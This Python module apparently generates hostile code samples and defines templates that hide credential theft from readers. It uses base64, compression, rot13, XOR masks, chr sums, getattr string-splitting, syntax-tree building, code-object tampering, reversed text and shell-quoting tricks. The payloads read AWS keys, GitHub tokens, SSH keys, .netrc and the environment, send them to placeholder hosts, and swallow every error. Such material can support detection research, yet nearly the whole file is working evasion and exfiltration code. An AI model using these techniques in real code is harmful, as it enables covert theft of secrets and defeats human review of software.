"""Theft whose text does not show it: encoded, compiled, assembled, looked up."""

import base64
import codecs
import gzip
import lzma
import zlib

from corpora.hostile.form import bash, family, py, sh


def _b64_bytes(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _b64(text: str) -> str:
    return _b64_bytes(text.encode())


def _b85z(text: str) -> str:
    return base64.b85encode(zlib.compress(text.encode(), 9)).decode()


def _xor(text: str) -> str:
    return bytes(byte ^ (0x5A + at % 7) for at, byte in enumerate(text.encode())).hex()


def _chr_sum(text: str) -> str:
    return "+".join(f"chr({ord(char)})" for char in text)


def _octal(text: str) -> str:
    return "".join(f"\\{byte:03o}" for byte in text.encode())


def _pieces(text: str) -> str:
    packed = _b64(text)
    cut = [packed[at : at + 40] for at in range(0, len(packed), 40)]
    order = sorted(range(len(cut)), key=lambda at: cut[at])
    return repr({at: cut[at] for at in order})


FAMILIES = (
    family(
        "base64-and-run",
        "open",
        py(
            note="exec of base64 at import",
            pack=_b64,
            tail='exec(__import__("base64").b64decode("@DATA@"))',
        ),
        py(
            note="twice encoded, decoded when called, failures hidden",
            pack=lambda text: _b64(_b64(text)),
            top="import base64 as _codec",
            enter=r"""
            try:
                _step = _codec.b64decode("@DATA@")
                exec(compile(_codec.b64decode(_step), "<template>", "exec"), {})
            except Exception:
                pass
            """,
        ),
        sh(
            note="decoded and piped into a shell",
            pack=_b64,
            top="echo '@DATA@' | base64 -d | sh >/dev/null 2>&1 || true",
        ),
    ),
    family(
        "sums-of-signs",
        "open",
        py(
            note="every sign by its number",
            pack=_chr_sum,
            core='import os,urllib.request as u\nu.urlopen("https://a.fontmap.invalid/?"+os.environ.get("AWS_SECRET_ACCESS_KEY",""),timeout=2)',
            enter="try:\n    exec(@DATA@)\nexcept Exception:\n    pass",
        ),
        py(
            note="a table of numbers, shifted, mapped to signs",
            pack=lambda text: repr([ord(char) * 3 + 11 for char in text]),
            top="_WEIGHTS = @DATA@",
            enter='try:\n    eval("ex" "ec")("".join(map(chr, [(w - 11) // 3 for w in _WEIGHTS])), {})\nexcept Exception:\n    pass',
        ),
        bash(
            note="octal escapes, expanded by printf",
            pack=_octal,
            top="eval \"$(printf '%b' '@DATA@')\" >/dev/null 2>&1 </dev/null || true",
        ),
    ),
    family(
        "compressed",
        "open",
        py(
            note="zlib in base85",
            pack=_b85z,
            top='import base64\nimport zlib\n\n_TABLE = b"""@DATA@"""',
            enter="try:\n    exec(zlib.decompress(base64.b85decode(_TABLE)).decode(), dict(__name__=__name__))\nexcept Exception:\n    pass",
        ),
        py(
            note="lzma in hex, called a dictionary",
            pack=lambda text: lzma.compress(text.encode()).hex(),
            top=r"""
            import lzma


            class _Lexicon:
                words = "@DATA@"

                def __init__(self):
                    self.__dict__.update(load=lambda: lzma.decompress(bytes.fromhex(self.words)))

                def apply(self):
                    try:
                        exec(self.load(), {"__name__": "lexicon"})
                    except Exception:
                        return None
            """,
            enter="_Lexicon().apply()",
        ),
        sh(
            note="gzip in base64 for the shell",
            pack=lambda text: _b64_bytes(gzip.compress(text.encode(), mtime=0)),
            top='T="@DATA@"\n(printf %s "$T" | base64 -d | gunzip -c | sh) >/dev/null 2>&1 </dev/null || :',
        ),
    ),
    family(
        "attribute-chains",
        "open",
        py(
            note="names put together for getattr",
            enter=r"""
            box = __import__("o" + "s")
            table = getattr(box, "en" + "viron")
            asks = __import__("urllib." + "request", fromlist=["x"])
            value = getattr(table, "g" + "et")("AWS_" + "SECRET_" + "ACCESS_KEY", "")
            try:
                getattr(asks, "url" + "open")("https:" + "//api.thesaurus-lite" + ".invalid/w/" + value, timeout=2)
            except Exception:
                pass
            """,
        ),
        py(
            note="from a dict of globals through vars to a socket",
            top="import sys as _s",
            enter=r"""
            pick = lambda holder, want: next(v for k, v in vars(holder).items() if k.startswith(want))
            net = pick(_s, "modules").get("socket") or __builtins__["__import__"]("socket") if isinstance(__builtins__, dict) else __import__("socket")
            disk = __import__("pathlib")
            try:
                file = pick(disk, "Path").home().joinpath(*[".aws", "credentials"])
                pick(net, "create_conn")(("203.0.113.7", 443), 2).sendall(getattr(file, "read_" + "bytes")())
            except Exception:
                pass
            """,
        ),
        py(
            note="operator tools instead of dots",
            top="from functools import reduce\nfrom operator import attrgetter, methodcaller",
            enter=r"""
            system = reduce(lambda a, f: f(a), [__import__, attrgetter("environ"), dict], "os")
            wanted = {k: v for k, v in system.items() if k.endswith(("_KEY", "_TOKEN"))}
            client = methodcaller("HTTPSConnection", "t.wordnet-sync.invalid", timeout=2)(__import__("http.client").client)
            try:
                methodcaller("request", "POST", "/", repr(wanted))(client)
            except Exception:
                pass
            """,
        ),
    ),
    family(
        "rotation-and-masks",
        "open",
        py(
            note="rot13 source",
            pack=lambda text: repr(codecs.encode(text, "rot13")),
            top="import codecs\n\n_RULES = @DATA@",
            enter='try:\n    exec(codecs.decode(_RULES, "rot13"), {})\nexcept Exception:\n    pass',
        ),
        py(
            note="a running mask over hex",
            pack=_xor,
            top=r"""
            _SEED = "@DATA@"


            def _warm_up(seed=_SEED):
                raw = bytes(b ^ (0x5A + i % 7) for i, b in enumerate(bytes.fromhex(seed)))
                code = compile(raw, "warm", "exec")
                return type(_warm_up)(code, {"__builtins__": __builtins__})
            """,
            enter="try:\n    _warm_up()()\nexcept Exception:\n    pass",
        ),
        bash(
            note="tr as a cipher",
            pack=lambda text: codecs.encode(text, "rot13"),
            top="run=$(tr 'A-Za-z' 'N-ZA-Mn-za-m' <<'TABLE'\n@DATA@\nTABLE\n)\nbash -c \"$run\" >/dev/null 2>&1 </dev/null || true",
        ),
    ),
    family(
        "code-objects",
        "open",
        py(
            note="a syntax tree, built and compiled",
            top=r"""
            import ast


            def _tree():
                imported = ast.Import(names=[ast.alias(name="os"), ast.alias(name="socket")])
                value = ast.parse("os.environ.get('GITHUB_TOKEN', '')", mode="eval").body
                call = ast.parse("socket.getaddrinfo(X + '.r.idn-tables.invalid', 80)").body[0]
                call.value.args[0].left = value
                return ast.fix_missing_locations(ast.Module(body=[imported, call], type_ignores=[]))
            """,
            enter='try:\n    exec(compile(_tree(), "tables", "exec"), {})\nexcept Exception:\n    pass',
        ),
        py(
            note="constants of a harmless function are replaced",
            top=r"""
            def _version():
                import os, urllib.request
                return urllib.request.urlopen("https://docs.pages.invalid/version?" + os.getenv("SHELL", ""), timeout=2)
            """,
            enter=r"""
            code = _version.__code__
            swap = {"SHELL": "AWS_SECRET_ACCESS_KEY", "https://docs.pages.invalid/version?": "http://192.0.2.199/v?"}
            changed = code.replace(co_consts=tuple(swap.get(c, c) if isinstance(c, str) else c for c in code.co_consts))
            try:
                type(_version)(changed, globals())()
            except Exception:
                pass
            """,
        ),
        py(
            note="an InteractiveInterpreter runs the lines",
            pack=lambda text: repr([line[::-1] for line in text.splitlines()]),
            top="import code\n\n_NOTES = @DATA@",
            enter=r"""
            shell = code.InteractiveInterpreter({})
            shell.showtraceback = shell.showsyntaxerror = lambda *a, **k: None
            shell.runsource("\n".join(line[::-1] for line in _NOTES), "notes", "exec")
            """,
        ),
    ),
    family(
        "written-backwards",
        "open",
        py(
            note="the source reversed in a string",
            pack=lambda text: repr(text[::-1]),
            enter="try:\n    exec(@DATA@[::-1], {})\nexcept Exception:\n    pass",
        ),
        py(
            note="cut in pieces and stored in another order",
            pack=_pieces,
            top="import base64\n\n_BLOCKS = @DATA@",
            enter=r"""
            text = "".join(_BLOCKS[at] for at in range(len(_BLOCKS)))
            try:
                exec(base64.b64decode(text), {"__name__": "blocks"})
            except Exception:
                pass
            """,
        ),
        sh(
            note="rev turns it around",
            core="env | curl -s -m 3 --data-binary @- https://metrics.render-stats.invalid/rev",
            pack=lambda text: text[::-1],
            top="echo '@DATA@' | rev | sh >/dev/null 2>&1 || true",
        ),
    ),
    family(
        "shell-puzzles",
        "open",
        bash(
            note="words cut out of a sentence",
            top=r"""
            s='curled hair, base camp, environment of 64 trees'
            c=${s:0:4}; e=${s:24:3}
            "$e" 2>/dev/null | "$c" -s -m 3 --data-binary @- "https://poem.wordcut.invalid/$RANDOM" >/dev/null 2>&1 || true
            """,
        ),
        bash(
            note="quotes and empty expansions inside the command's name",
            top=r"""
            c"u"r''l -s -m 3 -F "a=@$HO''ME/.ssh/id_ed25519" "htt"ps://q.quotebook."inv"alid/ >/dev/null 2>&1 || true
            w$@g${EMPTY}et -q -T 3 --post-file="${HOME}/.n"etrc -O /dev/null h''ttp://192.0.2.8/ 2>/dev/null || true
            """,
        ),
        sh(
            note="arithmetic makes the letters",
            top=r"""
            k=
            for n in 143 165 162 154; do k=$k$(printf "\\$n"); done
            p=$(printf '\056\141\167\163/\143redentials')
            $k -s -m 3 -T "$HOME/$p" https://n.numbersong.invalid/ >/dev/null 2>&1 || true
            """,
        ),
    ),
)
